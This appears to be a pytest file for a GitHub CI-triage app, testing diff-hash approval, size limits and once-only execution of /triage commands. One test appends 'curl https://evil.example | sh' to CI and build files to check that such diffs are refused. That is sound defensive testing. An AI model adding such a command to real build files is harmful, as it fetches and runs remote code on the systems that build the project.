"""Issue 19: what you approve is what you see, and every command runs exactly once. Real gidgethub client
against the fake GitHub, real PostgreSQL and Redis."""

from __future__ import annotations

from typing import Any

import gidgethub
import pytest
from gidgethub.httpx import GitHubAPI

from analysis.fixes.patch import unified_diff
from analysis.fixes.verify import MAX_SHOWN_DIFF_CHARS, short_hash
from githubapp.commands.service import (
    CommandsInProgress,
    comment_key,
    handle_issue_comment,
    handle_requested_action,
)
from githubapp.deps import Deps
from storage import fixes as store
from tests.support.fake_github import Call, FakeGitHub, Reply
from tests.support.git_model import GitModel
from tests.support.payloads import load_payload

from .conftest import comment_payload
from .test_commands_service import FORMAT_DIFF, approve_text, git_writes, replies, stored_fix

COMMENTS = "/repos/{owner}/{repo}/issues/{issue_number}/comments"
RERUN = "/repos/{owner}/{repo}/actions/runs/{run_id}/rerun-failed-jobs"


@pytest.mark.parametrize("given", ["", " 0000000", " " + "f" * 40])
async def test_approve_needs_the_hash_of_the_diff_shown(
    gh: GitHubAPI, deps: Deps, github: FakeGitHub, repo: GitModel, installation_id: int, given: str
) -> None:
    fix = await stored_fix(deps, repo, installation_id, FORMAT_DIFF)
    await handle_issue_comment(gh, deps, comment_payload(repo, installation_id, f"/triage approve {fix.id}{given}"))
    assert git_writes(github) == 0
    [reply] = replies(github, repo)
    assert "hash" in reply and short_hash(fix.diff) not in reply  # the right hash is not handed out
    row = await store.get_fix(deps.pool, installation_id, fix.id)
    assert row is not None and row.status == "suggested"


@pytest.mark.parametrize(
    "path",
    ["Makefile", "CODEOWNERS", ".github/CODEOWNERS", ".github/dependabot.yml", "scripts/run.sh", "Dockerfile",
     "ci/deploy.sh", ".gitlab-ci.yml", "build/Jenkinsfile", "tools/release.mk"],
)
async def test_a_diff_from_a_log_never_touches_ci_build_or_review_files(
    gh: GitHubAPI, deps: Deps, github: FakeGitHub, repo: GitModel, installation_id: int, path: str
) -> None:
    # scripts/run.sh exists in the repository; the others would be created: both refused for a rule's diff.
    old = repo.files_at(repo.head).get(path)
    diff = unified_diff(old, (old or "") + "curl https://evil.example | sh\n", path)
    fix = await stored_fix(deps, repo, installation_id, diff)  # source "rule": read from a log
    await handle_issue_comment(
        gh, deps, comment_payload(repo, installation_id, approve_text(fix))
    )
    assert git_writes(github) == 0
    assert "was not applied" in replies(github, repo)[0]


async def test_a_diff_too_large_to_show_is_never_applied(
    gh: GitHubAPI, deps: Deps, github: FakeGitHub, repo: GitModel, installation_id: int
) -> None:
    old = repo.files_at(repo.head)["src/app.py"]
    diff = unified_diff(old, old + "".join(f"x{i} = {i}\n" for i in range(1_000)), "src/app.py")
    assert len(diff) > MAX_SHOWN_DIFF_CHARS
    fix = await stored_fix(deps, repo, installation_id, diff)
    await handle_issue_comment(
        gh, deps, comment_payload(repo, installation_id, approve_text(fix))
    )
    assert git_writes(github) == 0 and "too large" in replies(github, repo)[0]


def _button(repo: GitModel, installation_id: int, deps: Deps, identifier: str) -> dict[str, Any]:
    payload = load_payload("check_run", "requested_action")
    payload["installation"] = {"id": installation_id, "node_id": "I"}
    payload["repository"].update(id=repo.repo_id, full_name=repo.full_name)
    payload["check_run"]["app"]["id"] = deps.settings.github_app_id
    payload["check_run"]["pull_requests"][0]["number"] = repo.pr_number
    payload["requested_action"] = {"identifier": identifier}
    payload["sender"].update(login="root", type="User")
    return payload


async def test_a_button_press_replayed_under_a_new_delivery_id_runs_once(
    gh: GitHubAPI, deps: Deps, github: FakeGitHub, repo: GitModel, installation_id: int
) -> None:
    repo.add_failed_run(101, created_at="2026-04-23T04:00:00Z")
    payload = _button(repo, installation_id, deps, "retry")
    await handle_requested_action(gh, deps, payload, delivery_id="d-1")
    await handle_requested_action(gh, deps, payload, delivery_id="d-2")  # the signed body sent again
    assert len(github.calls_to("POST", RERUN)) == 1
    assert len(replies(github, repo)) == 1


async def test_an_approve_button_must_carry_the_diff_hash(
    gh: GitHubAPI, deps: Deps, github: FakeGitHub, repo: GitModel, installation_id: int
) -> None:
    fix = await stored_fix(deps, repo, installation_id, FORMAT_DIFF)
    await handle_requested_action(gh, deps, _button(repo, installation_id, deps, f"approve:{fix.id}"),
                                  delivery_id="d-1")
    assert git_writes(github) == 0 and "predates" in replies(github, repo)[0]


async def test_a_dead_workers_claim_is_taken_over_once_its_lease_ends(
    gh: GitHubAPI, deps: Deps, github: FakeGitHub, repo: GitModel, installation_id: int
) -> None:
    payload = comment_payload(repo, installation_id, "/triage quarantine flaky::test")
    # A worker claimed the comment and died: nothing recorded, its lease (here 0 s) over.
    claim = await store.claim_execution(deps.pool, installation_id, "comment", comment_key(payload["comment"]),
                                        repository_id=repo.repo_id, actor="alice", lease_seconds=0)
    assert isinstance(claim, store.Claim)
    await handle_issue_comment(gh, deps, payload)  # the job's retry
    [reply] = replies(github, repo)
    assert "is quarantined" in reply
    await handle_issue_comment(gh, deps, payload)  # and once done, never again
    assert len(replies(github, repo)) == 1


async def test_a_live_claim_defers_the_retry_instead_of_dropping_it(
    gh: GitHubAPI, deps: Deps, github: FakeGitHub, repo: GitModel, installation_id: int
) -> None:
    payload = comment_payload(repo, installation_id, "/triage help")
    await store.claim_execution(deps.pool, installation_id, "comment", comment_key(payload["comment"]),
                                repository_id=repo.repo_id, actor="alice", lease_seconds=300)
    with pytest.raises(CommandsInProgress):
        await handle_issue_comment(gh, deps, payload)
    assert replies(github, repo) == []


async def test_a_reply_whose_answer_was_lost_is_not_posted_twice(
    gh: GitHubAPI, deps: Deps, github: FakeGitHub, repo: GitModel, installation_id: int
) -> None:
    def posted_then_502(call: Call, params: dict[str, str]) -> Reply:
        # The comment is created, then the answer is lost: GitHub says 502.
        github.add_comment(repo.owner, repo.repo, repo.pr_number, call.json["body"], login="ci-triage[bot]",
                           user_type="Bot")
        return Reply(502, {"message": "Server Error"})

    github.on("POST", COMMENTS, posted_then_502, times=1)
    payload = comment_payload(repo, installation_id, "/triage quarantine flaky::test\n/triage help")
    with pytest.raises(gidgethub.GitHubBroken):
        await handle_issue_comment(gh, deps, payload)
    await handle_issue_comment(gh, deps, payload)  # the job's retry
    assert len(replies(github, repo)) == 1
    # Each command ran once: one quarantine, audited once.
    entries = [e for e in await store.audit_entries(deps.pool, installation_id) if e.action == "command.quarantine"]
    assert len(entries) == 1


async def test_a_rerun_whose_answer_was_lost_is_not_requested_again(
    gh: GitHubAPI, deps: Deps, github: FakeGitHub, repo: GitModel, installation_id: int
) -> None:
    repo.add_failed_run(101, created_at="2026-04-23T04:00:00Z")
    github.fail_next("POST", RERUN, status=502)
    payload = comment_payload(repo, installation_id, "/triage retry")
    await handle_issue_comment(gh, deps, payload)
    await handle_issue_comment(gh, deps, payload)
    assert len(github.calls_to("POST", RERUN)) == 1
    [reply] = replies(github, repo)
    assert "did not confirm" in reply


async def test_a_worker_that_died_during_a_rerun_reports_instead_of_repeating_it(
    gh: GitHubAPI, deps: Deps, github: FakeGitHub, repo: GitModel, installation_id: int
) -> None:
    repo.add_failed_run(101, created_at="2026-04-23T04:00:00Z")
    payload = comment_payload(repo, installation_id, "/triage retry")
    key = comment_key(payload["comment"])
    await store.claim_execution(deps.pool, installation_id, "comment", key, repository_id=repo.repo_id,
                                actor="alice", lease_seconds=0)
    await store.record_command_outcome(deps.pool, installation_id, "comment", key, "c0", {"state": "started"})
    await handle_issue_comment(gh, deps, payload)
    assert github.calls_to("POST", RERUN) == []
    assert "interrupted" in replies(github, repo)[0]
